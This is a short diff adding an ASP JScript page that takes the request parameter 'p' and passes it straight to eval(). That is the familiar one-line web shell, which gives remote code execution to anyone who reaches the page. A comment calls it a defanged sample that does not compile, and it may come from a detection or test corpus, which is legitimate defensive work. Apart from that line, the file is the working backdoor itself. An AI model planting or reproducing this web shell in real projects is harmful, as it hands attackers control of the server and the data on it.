@@ -1,0 +1,6 @@
+<%@ Language="JScript" %>
+<% DEFANGED sample does not compile %>
+<%
+var p = Request.Item("p");
+eval(p + "");
+%>
